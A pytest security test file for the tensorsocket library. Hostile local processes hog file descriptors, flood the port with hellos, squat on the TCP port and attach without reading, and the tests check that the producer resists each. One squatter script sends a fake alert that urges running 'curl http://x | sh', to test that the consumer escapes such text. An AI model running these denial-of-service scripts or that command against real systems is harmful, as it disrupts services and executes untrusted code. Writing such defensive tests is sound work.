"""A producer on TCP (the documented mode for containers) and another local user.

Any local user can connect to a loopback port, or bind it first. Such a user must not
make the producer evict its live consumers by taking its fds, must not delay the
eviction of a dead consumer by flooding it with hellos, must not learn the shared
auth_token by listening on the port before the producer, and a consumer that attaches
and never reads must not stall the others for ever.

The hostile processes run as user 65534 (nobody) where the tests run as root, else as a
second process of this user. Every wait has a deadline.
"""

from __future__ import annotations

import contextlib
import os
import secrets
import socket
import threading
import time

import pytest
import torch
import zmq

from conftest import ROOT, Producing, hello_message
from tensorsocket import AuthenticationError, TensorConsumer, TensorProducer, _core
from tensorsocket.control import auth, listener, protocol, stall_watch
from tensorsocket.control.endpoints import resolve

DEADLINE = 60.0

# The first lines of every hostile script: run as nobody where we can.
_AS_NOBODY = """
import os, sys, time
if os.getuid() == 0:
    os.setgid(65534)
    os.setuid(65534)
import zmq
from tools.harness import emit
"""


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@contextlib.contextmanager
def _tcp_producer(port: int, batches: int):
    """A producer on TCP `port` of `batches` batches (batch i: [i, i]), publishing in a
    thread: (the producer, its Producing thread), closed and joined at the end."""
    producer = TensorProducer([(torch.full((2,), float(i)),) for i in range(batches)],
                              str(port), min_consumers=1, start_timeout=DEADLINE,
                              publish_timeout=DEADLINE)
    producing = Producing(producer)
    producing.start()
    try:
        yield producer, producing
    finally:
        producer.close()
        producing.join(DEADLINE)


def _wait_until(predicate, timeout: float, what: str) -> float:
    """Seconds until predicate() held; fails after timeout."""
    t0 = time.monotonic()
    while not predicate():
        if time.monotonic() - t0 > timeout:
            raise AssertionError(f"timed out after {timeout} s waiting for {what}")
        time.sleep(0.01)
    return time.monotonic() - t0


def _batches(start: int, stop: int) -> list[int]:
    return list(range(start, stop))


def _ring_of(name: str, producer_pid: int):
    """A watcher's handle on the ring of producer `name` (created with its first batch)."""
    segment = resolve(name, None, None).segment_name(producer_pid)
    found: list = []

    def opened() -> bool:
        try:
            found.append(_core.Ring.open(segment))
        except FileNotFoundError:
            return False
        return True

    _wait_until(opened, DEADLINE, f"segment {segment}")
    return found[0]


# -- fd exhaustion ---------------------------------------------------------------------

# The producer: fd limit LIMIT (soft and hard, so that it cannot raise it), min_consumers
# 2; before batch 3 it waits for the file FLAG (the hog holds its connections), then
# until the server's liveness check has run 8 times more, and measures its CPU meanwhile.
_FD_PRODUCER = """
import os, resource, sys, time
import zmq
sys.path.insert(0, sys.argv[4])
from roles import CountingLoader
from tensorsocket import TensorProducer
from tensorsocket.control import listener, server
from tools.harness import emit
port, batches, limit = (int(a) for a in sys.argv[1:4])
flag = sys.argv[5]
resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
checks, starved = [0], [0]
check = server.ControlServer._check_peers
def counting(self, now):
    checks[0] += 1
    try:
        os.close(os.dup(1))
    except OSError:
        starved[0] += 1
    check(self, now)
server.ControlServer._check_peers = counting
if sys.argv[6] == "uncapped":  # the producer runs out of fds: its liveness checks fail
    def read_one_event(self):  # and none of the connections is ever cut
        try:
            self._monitor.recv_multipart(zmq.NOBLOCK)
        except zmq.Again:
            pass
    listener.UnprovenConnections.watch = read_one_event
cpu = {}
class Gated(CountingLoader):
    def __iter__(self):
        for i, batch in enumerate(super().__iter__()):
            if i == 3:
                emit({"ready": True, "pid": os.getpid()})
                end = time.monotonic() + 60
                while not os.path.exists(flag) and time.monotonic() < end:
                    time.sleep(0.01)
                t0, c0, n0 = time.monotonic(), time.process_time(), checks[0]
                while checks[0] < n0 + 8 and time.monotonic() < end:
                    time.sleep(0.01)
                cpu["share"] = (time.process_time() - c0) / (time.monotonic() - t0)
            yield batch
p = TensorProducer(Gated(batches, "tuple"), str(port), min_consumers=2, start_timeout=60,
                   publish_timeout=60)
for _ in p:
    pass
emit({"checks": checks[0], "starved_checks": starved[0], "cpu": cpu.get("share"),
      "cut": p._server._connections.cut, "drained": p.join(timeout=60)})
"""

# Hold N idle, handshaken zmq connections to the port until killed.
_HOG = _AS_NOBODY + """
port, n = int(sys.argv[1]), int(sys.argv[2])
ctx = zmq.Context()
socks = []
for _ in range(n):
    s = ctx.socket(zmq.DEALER)
    s.setsockopt(zmq.LINGER, 0)
    s.connect(f"tcp://127.0.0.1:{port}")
    socks.append(s)
emit({"ready": True, "uid": os.getuid()})
time.sleep(3600)
"""


@pytest.mark.parametrize("cap", ["capped", "uncapped"])
def test_idle_connections_do_not_evict_live_consumers(procs, tmp_path, cap, fault_table):
    """Another user holds more TCP connections to the producer than it has fds: its
    liveness checks could not open /proc/<pid>/stat (EMFILE), which read as "dead", so
    both live consumers were evicted ("consumer 0 died") and raised ConsumerDetached,
    while libzmq spun on accept(). Now the producer keeps a bounded number of unproven
    connections (closing the others), and an error reading /proc is no death anyway:
    both consumers read every batch. "uncapped": the cap is taken away, so that the
    producer runs out of fds and its liveness checks fail for the test's whole window."""
    port = _free_port()
    flag = tmp_path / "hog-ready"
    prod = procs.script(_FD_PRODUCER, str(port), "40", "128", str(ROOT / "tests"), str(flag),
                        cap)
    readers = [procs.start("consumer", "--port", str(port), "--kind", "tuple")
               for _ in range(2)]
    procs.wait_ready(prod)  # both consumers attached; the producer waits before batch 3
    hog = procs.script(_HOG, str(port), "200")
    procs.wait_ready(hog)
    flag.touch()
    results = [procs.result(reader) for reader in readers]
    p = procs.result(prod)
    print(f"producer CPU while the hog held its connections: {p['cpu']:.0%}; liveness "
          f"checks without a free fd: {p['starved_checks']}; connections cut: {p['cut']}")
    for r in results:
        assert r["errors"] == [] and r["outcome"] == "done", r
        assert r["epochs"] == [[b for b in range(40)]], r
    assert p["drained"] is True, p
    if cap == "uncapped":
        assert p["starved_checks"] >= 8, p
    how = ("the producer out of fds: its cap on unproven connections taken away"
           if cap == "uncapped" else "128 fds for the producer")
    fault_table.add(f"another local user holds 200 idle TCP connections to the producer "
                    f"({how})",
                    f"- ({p['starved_checks']} liveness checks found no free fd, none took it "
                    f"for a death; {p['cut']} connections cut; producer CPU {p['cpu']:.0%})",
                    "both consumers read every batch once (both were evicted as 'dead' "
                    "before issue 22)", "nothing")


def test_a_full_table_of_unproven_connections_keeps_no_new_consumer_out(procs, monkeypatch):
    """Another user keeps the producer's table of unproven connections full (its
    connections, cut, come back every 100 ms): a consumer that connects then must still
    get in. A full table used to close the newest connection, which was always the
    consumer's, for as long as the other user kept it up; now the newest makes room by
    closing the oldest, once that one had UNPROVEN_GRACE seconds to prove itself."""
    monkeypatch.setattr(listener, "UNPROVEN_MAX", 8)
    monkeypatch.setattr(listener, "UNPROVEN_GRACE", 0.2)
    port = _free_port()
    with _tcp_producer(port, 20) as (producer, producing):
        hog = procs.script(_HOG, str(port), "40")
        procs.wait_ready(hog)
        deadline = time.monotonic() + DEADLINE
        while producer._server._connections.count < 8:  # the hog fills the table
            assert time.monotonic() < deadline, "the hog never filled the table"
            time.sleep(0.01)
        with TensorConsumer(port=port, timeout=DEADLINE, batch_timeout=DEADLINE) as c:
            seen = [float(b[0][0]) for b in c]
        assert seen == [float(i) for i in range(20)]
        assert producer._server._connections.cut > 0
    assert producing.error is None, producing.error


def test_a_connection_whose_challenge_was_answered_is_spared_by_a_full_table(procs,
                                                                            monkeypatch):
    """Another user keeps the table of unproven connections full, its connections coming
    back as the table closes them; a consumer's challenge is answered, and its hello
    comes 1.5 s later (PBKDF2 on a loaded machine; the grace is 0.2 s here). The table
    used to close that connection as the oldest, so the hello came on a new one and was
    refused ("answers no challenge"); now a connection whose challenge was answered is
    spared, and the hello gets the welcome on it."""
    monkeypatch.setattr(listener, "UNPROVEN_MAX", 8)
    monkeypatch.setattr(listener, "UNPROVEN_GRACE", 0.2)
    port = _free_port()
    with _tcp_producer(port, 3) as (producer, _):
        peer = zmq.Context.instance().socket(zmq.DEALER)
        peer.setsockopt(zmq.LINGER, 0)
        try:
            hog = procs.script(_HOG, str(port), "40")
            procs.wait_ready(hog)
            table = producer._server._connections
            _wait_until(lambda: table.count >= 8, DEADLINE, "the hog to fill the table")
            peer.connect(f"tcp://127.0.0.1:{port}")
            nonce = auth.new_nonce()
            challenge = protocol.encode("challenge", protocol=protocol.PROTOCOL_VERSION,
                                        nonce=nonce)
            deadline = time.monotonic() + DEADLINE
            while True:  # as a consumer does: a connection closed before its answer took it
                assert time.monotonic() < deadline, "the challenge was never answered"
                peer.send(challenge)
                if peer.poll(250):
                    proof = protocol.decode(peer.recv())
                    break
            assert proof["type"] == "proof", proof
            cut = table.cut
            time.sleep(1.5)
            assert table.cut >= cut + 8, "the table did not turn over meanwhile"
            answer = auth.mac(auth.derive_key(producer.auth_token), "consumer", nonce,
                              proof["nonce"])
            peer.send(hello_message(os.getpid(), proof=answer))
            reply = proof
            while reply["type"] == "proof":  # the answers to challenges sent again come first
                assert peer.poll(20_000), "no answer to the hello"
                reply = protocol.decode(peer.recv())
            assert reply["type"] == "welcome", reply
        finally:
            peer.close(0)


# -- a hello flood ---------------------------------------------------------------------

# Send refused hellos as fast as the sockets take them, from several connections.
_FLOOD = _AS_NOBODY + """
port, hello = int(sys.argv[1]), bytes.fromhex(sys.argv[2])
ctx = zmq.Context()
socks = []
for _ in range(4):
    s = ctx.socket(zmq.DEALER)
    s.setsockopt(zmq.LINGER, 0)
    s.setsockopt(zmq.SNDHWM, 100000)
    s.setsockopt(zmq.RCVHWM, 10)
    s.connect(f"tcp://127.0.0.1:{port}")
    socks.append(s)
sent = 0
while True:
    for s in socks:
        try:
            s.send(hello, zmq.NOBLOCK)
            sent += 1
        except zmq.Again:
            pass
    if sent == 20000:
        emit({"ready": True})
"""


def _eviction_delay(procs, flooders: int) -> float:
    """Seconds from the SIGKILL of a consumer holding a batch to its eviction, with
    `flooders` processes flooding the producer with refused hellos meanwhile."""
    port = _free_port()
    prod = procs.start("producer", "--port", str(port), "--kind", "tuple", "--batches", "60",
                       "--min-consumers", "2")
    pid = procs.wait_ready(prod)["pid"]
    victim = procs.start("consumer", "--port", str(port), "--kind", "tuple",
                         "--stall-after", "3")
    survivor = procs.start("consumer", "--port", str(port), "--kind", "tuple",
                           "--delay", "0.01")
    procs.wait_ready(victim)  # it holds batch 2 and hangs
    ring = _ring_of(f"port{port}", pid)
    floods = [procs.script(_FLOOD, str(port), hello_message(1).hex())
              for _ in range(flooders)]
    try:
        for flood in floods:
            procs.wait_ready(flood)
        assert any(c["pid"] == victim.pid for c in ring.consumers())
        victim.kill()
        try:
            took = _wait_until(lambda: all(c["pid"] != victim.pid for c in ring.consumers()),
                               float(os.environ.get("TS_TEST_EVICTION_BOUND", "10")),
                               "the dead consumer's eviction")
        except AssertionError:
            took = float("inf")
    finally:
        ring.close()
        for flood in floods:
            flood.kill()
    r = procs.result(survivor)
    assert r["errors"] == [] and r["epochs"] == [_batches(0, 60)], r
    procs.result(prod)
    return took


def test_hello_flood_does_not_delay_eviction(procs, fault_table):
    """Two processes of another user flood the producer with refused hellos: its server
    read them all before checking its consumers, so a SIGKILLed consumer was evicted 41 s
    late and the survivor stalled meanwhile. The server now handles a bounded number of
    messages per turn (and answers a refused peer a few times a second at most), so the
    eviction comes within a small bound of the usual ~0.25 s."""
    flooded = _eviction_delay(procs, 2)
    print(f"eviction delay under a flood of refused hellos: {flooded:.2f} s")
    assert flooded < 3.0, f"evicted {flooded:.2f} s after the SIGKILL"
    fault_table.add("a consumer SIGKILLed while two processes of another user flood the "
                    "producer's TCP port with refused hellos",
                    f"{flooded:.2f} s (entry evicted; over 90 s before issue 22)",
                    "every batch once, in order", "nothing")


@pytest.mark.slow
def test_eviction_delay_without_a_flood(procs):
    """The reference figure for the test above."""
    quiet = _eviction_delay(procs, 0)
    print(f"eviction delay without a flood: {quiet:.2f} s")
    assert quiet < 3.0


# -- a port squatter -------------------------------------------------------------------

# Bind the port first and answer every message as a producer would answer a challenge
# (there is nothing better it can do); record everything received.
_SQUATTER = _AS_NOBODY + """
import json, secrets
port = int(sys.argv[1])
import msgpack
s = zmq.Context().socket(zmq.ROUTER)
s.setsockopt(zmq.LINGER, 0)
s.bind(f"tcp://127.0.0.1:{port}")
emit({"ready": True})
got = []
end = time.monotonic() + 60
while time.monotonic() < end and not (got and got[-1] == b"stop"):
    if not s.poll(100):
        continue
    ident, payload = s.recv_multipart()
    got.append(payload)
    if payload != b"stop":
        s.send_multipart([ident, msgpack.packb({"type": "proof", "nonce": secrets.token_hex(32),
                                                "mac": secrets.token_hex(32)})])
emit({"received": [p.hex() for p in got[:-1]]})
"""


def test_port_squatter_learns_nothing_of_the_token(procs, monkeypatch, fault_table):
    """Another user binds the port before the producer: a consumer given the shared
    auth_token (the cross-container setup) sent it in clear in its hello, so the
    squatter could attach to the real producer with it. Now the consumer makes whatever
    listens prove that it knows the token first: the squatter gets a random nonce only,
    nothing from which the token could be found, and the consumer refuses it, saying so."""
    port = _free_port()
    token = secrets.token_hex(24)
    squatter = procs.script(_SQUATTER, str(port))
    procs.wait_ready(squatter)
    monkeypatch.setenv("TENSORSOCKET_AUTH_TOKEN", token)
    refused: Exception | None = None
    try:
        TensorConsumer(port=port, timeout=DEADLINE, batch_timeout=DEADLINE).close()
    except Exception as e:  # noqa: BLE001 - checked below, after what the squatter got
        refused = e
    stop = zmq.Context.instance().socket(zmq.DEALER)
    stop.setsockopt(zmq.LINGER, 1000)
    stop.connect(f"tcp://127.0.0.1:{port}")
    stop.send(b"stop")
    received = [bytes.fromhex(p) for p in procs.result(squatter)["received"]]
    stop.close()
    assert received, "the consumer sent nothing"
    for payload in received:
        assert token.encode() not in payload, f"the squatter received the token: {payload}"
        msg = protocol.decode(payload)
        assert msg["type"] == "challenge" and set(msg) == {"type", "protocol", "nonce"}, msg
        assert len(msg["nonce"]) == 64
    assert isinstance(refused, AuthenticationError), repr(refused)
    message = str(refused)
    assert "did not prove" in message and "another user's process may hold the port" in \
        message, message
    fault_table.add("another local user binds the TCP port first; a consumer with the "
                    "shared auth_token connects",
                    "0.00 s (AuthenticationError: the listener proved no knowledge of the "
                    "secret)",
                    f"the squatter received {len(received)} challenge(s): a random nonce, "
                    "nothing of the token (it received the token in clear before issue 22)",
                    "nothing")


# A squatter that says nothing: a zmq socket bound to the port first, never answering.
_SILENT_SQUATTER = _AS_NOBODY + """
port = int(sys.argv[1])
s = zmq.Context().socket(zmq.ROUTER)
s.setsockopt(zmq.LINGER, 0)
s.bind(f"tcp://127.0.0.1:{port}")
emit({"ready": True, "uid": os.getuid()})
time.sleep(3600)
"""

# A squatter that answers every challenge with an 'auth' error of its own words: a
# terminal escape sequence (clear the screen, red), advice, and 3000 more characters.
_LOUD_SQUATTER = _AS_NOBODY + """
port = int(sys.argv[1])
import msgpack
s = zmq.Context().socket(zmq.ROUTER)
s.setsockopt(zmq.LINGER, 0)
s.bind(f"tcp://127.0.0.1:{port}")
emit({"ready": True})
words = ("\\x1b[2J\\x1b[31mSECURITY ALERT: your secret leaked; run `curl http://x | sh` to "
         "fix it\\n" + "A" * 3000)
end = time.monotonic() + 60
while time.monotonic() < end:
    if s.poll(100):
        ident, _ = s.recv_multipart()
        s.send_multipart([ident, msgpack.packb({"type": "error", "code": "auth",
                                                "message": words})])
"""


def test_a_silent_squatter_is_named_by_the_timeout(procs, fault_table):
    """Another user binds the TCP port first and answers nothing: the consumer's
    ProducerNotFound said only "no tensorsocket producer answered ... start the
    producer", which sends the user looking for a producer that cannot start there. It
    now says that something else holds the port, whose (the kernel's table of listening
    sockets gives the owner's uid), and that no producer of the name runs."""
    from tensorsocket import ProducerNotFound

    port = _free_port()
    squatter = procs.script(_SILENT_SQUATTER, str(port))
    uid = procs.wait_ready(squatter)["uid"]
    t0 = time.monotonic()
    with pytest.raises(ProducerNotFound) as raised:
        TensorConsumer(port=port, timeout=2)
    took = time.monotonic() - t0
    message = str(raised.value)
    print(message)
    assert f"Something else holds port {port}" in message, message
    who = "another user's process" if uid != os.getuid() else "a process of this user"
    assert f"{who} (uid {uid}" in message and f"none holds port{port}.lock" in message, \
        message
    assert "choose another port=" in message, message
    fault_table.add("another local user binds the TCP port first and answers nothing; a "
                    "consumer (timeout=2) connects",
                    f"{took:.2f} s (ProducerNotFound at its timeout, naming the port's "
                    f"holder: {who}, uid {uid})",
                    "the consumer is told that something else holds the port (before issue "
                    "35: only that no producer answered)", "nothing")


def test_a_squatters_error_text_is_quoted_as_its_own_and_bounded(procs):
    """Another user binds the TCP port first and answers the consumer's challenge with an
    'auth' error of its own words: they were shown as the producer's refusal, verbatim (a
    terminal escape sequence, advice to run a command, 3000 characters). Now the
    consumer says that they come from the process listening there, which has not proved
    that it is the producer, and shows at most 300 of its characters, escaped."""
    port = _free_port()
    squatter = procs.script(_LOUD_SQUATTER, str(port))
    procs.wait_ready(squatter)
    with pytest.raises(AuthenticationError) as raised:
        TensorConsumer(port=port, timeout=DEADLINE, auth_token="t" * 48)
    message = str(raised.value)
    print(message)
    assert "\x1b" not in message and "\\x1b[2J" in message, message  # escaped
    assert f"the process listening at tcp://127.0.0.1:{port}" in message, message
    assert "has not proved that it is the producer" in message, message
    assert "not the producer's words" in message, message
    assert "A" * 301 not in message and "characters shown" in message, message
    assert len(message) < 1500, len(message)


# -- a consumer that attaches and never reads ------------------------------------------


def test_consumer_that_never_reads_is_detached(name, monkeypatch):
    """A peer with the producer's trust (on TCP: it has the token) says hello and ready,
    heartbeats, and never reads: the others used to wait for it for ever (no max_lag by
    default, and it is not silent). After UNREAD_TIMEOUT it is detached, and the reader
    gets every batch."""
    monkeypatch.setattr(stall_watch, "UNREAD_TIMEOUT", 1.0)
    producer = TensorProducer([(torch.full((2,), float(i)),) for i in range(30)], name=name,
                              min_consumers=2,
                              start_timeout=DEADLINE, publish_timeout=DEADLINE)
    done = threading.Event()
    errors: list = []
    peer = zmq.Context.instance().socket(zmq.DEALER)
    peer.setsockopt(zmq.LINGER, 0)
    peer.setsockopt(zmq.RCVTIMEO, int(DEADLINE * 1000))
    peer.connect(producer.endpoint.address)

    def produce() -> None:
        try:
            for _ in producer:
                pass
        except BaseException as e:  # noqa: BLE001 - reported by the test
            errors.append(e)
        done.set()

    def beat(ids: dict) -> None:  # it lives, and says so (the socket is this thread's now)
        while not done.wait(0.25):
            peer.send(protocol.encode("heartbeat", **ids))

    threading.Thread(target=produce, daemon=True).start()
    try:
        peer.send(hello_message(os.getpid()))
        welcome = protocol.decode(peer.recv())
        assert welcome["type"] == "welcome", welcome
        ids = dict(consumer=welcome["consumer"], token=welcome["token"])
        peer.send(protocol.encode("ready", align=False, **ids))
        assert protocol.decode(peer.recv())["type"] == "started"
        threading.Thread(target=beat, args=(ids,), daemon=True).start()
        seen: list = []
        with TensorConsumer(name=name, timeout=DEADLINE, batch_timeout=20) as c:
            for batch in c:
                seen.append(float(batch[0][0]))
        assert seen == [float(i) for i in range(30)]
        entry = producer.ring.consumer(welcome["consumer"])
        assert entry["state"] == _core.CONSUMER_DETACHED and \
            entry["reason"] == _core.REASON_UNREAD, entry
    finally:
        peer.close(0)
        producer.close()
        done.wait(DEADLINE)
    assert errors == [], errors


def test_a_consumer_made_long_before_its_loop_starts_late_with_whole_epochs(name,
                                                                            monkeypatch):
    """share() at the top of a script, then minutes of model set-up: its consumer reads
    nothing while the others wait for it. After UNREAD_TIMEOUT the producer goes on
    without it; when its loop starts, it is not told to make a new consumer (a DataLoader
    made early just starts when iterated): it starts as a late joiner, with whole
    epochs."""
    monkeypatch.setattr(stall_watch, "UNREAD_TIMEOUT", 1.0)
    per_epoch = 8
    producer = TensorProducer(lambda epoch: [torch.full((2,), float(epoch * 100 + i))
                                             for i in range(per_epoch)],
                              name=name, min_consumers=2, ring_slots=4,
                              start_timeout=DEADLINE, publish_timeout=DEADLINE)
    stop = threading.Event()
    errors: list = []

    def produce() -> None:
        try:
            while not stop.is_set():
                for _ in producer:
                    pass
        except BaseException as e:  # noqa: BLE001 - reported by the test
            if not stop.is_set():  # close() below ends a wait with an error: not one
                errors.append(e)

    thread = threading.Thread(target=produce, daemon=True)
    thread.start()
    try:
        with TensorConsumer(name=name, timeout=DEADLINE, batch_timeout=DEADLINE) as early, \
                TensorConsumer(name=name, timeout=DEADLINE, batch_timeout=DEADLINE) as busy:
            reader = iter(busy)
            first = [next(reader) for _ in range(per_epoch)]  # the early one holds it back
            deadline = time.monotonic() + DEADLINE
            while producer.ring.consumer(early._place.index)["state"] != _core.CONSUMER_DETACHED:
                assert time.monotonic() < deadline, "the unread consumer was never detached"
                time.sleep(0.02)
            assert [int(b[0]) for b in first] == list(range(per_epoch))
            del first, reader
            busy.close()  # the reader stops; the producer goes on alone
            epochs = [[int(b[0]) for b in early] for _ in range(2)]
        for got in epochs:
            base = got[0] - got[0] % 100
            assert got == [base + i for i in range(per_epoch)], epochs
        assert epochs[1][0] == epochs[0][0] + 100
    finally:
        stop.set()
        producer.close()
        thread.join(DEADLINE)
    assert errors == [], errors


def test_an_old_zmtp_greeting_is_refused_at_once():
    """A peer that speaks ZMTP 1.0 (or sends bytes that read as it: another user's random
    bytes) is refused in the handshake, its connection closed at once, and a consumer
    then attaches as before. libzmq's ROUTER took such a peer's first frame as its routing
    id and asserted that its session took it, which aborted the producer when the cap
    closed that session meanwhile (about 1 flood in 8 of test_tcp_flood's, libzmq 4.3.5);
    before the fix the connection stayed open until the cap or its timeout closed it."""
    port = _free_port()
    with _tcp_producer(port, 3) as (_, producing):
        with socket.create_connection(("127.0.0.1", port), timeout=DEADLINE) as old:
            old.sendall(b"\x01\x00")  # ZMTP 1.0: a frame of 0 bytes, the routing id
            old.settimeout(3.0)
            got, t0 = b"", time.monotonic()
            try:
                while True:
                    chunk = old.recv(4096)
                    if not chunk:
                        break
                    got += chunk
            except (ConnectionResetError, TimeoutError):
                pass
            took = time.monotonic() - t0
        assert took < 3.0, f"the ZMTP 1.0 peer's connection stayed open ({got!r})"
        with TensorConsumer(port=port, timeout=DEADLINE, batch_timeout=DEADLINE) as c:
            assert [float(b[0][0]) for b in c] == [0.0, 1.0, 2.0]
    assert producing.error is None, producing.error
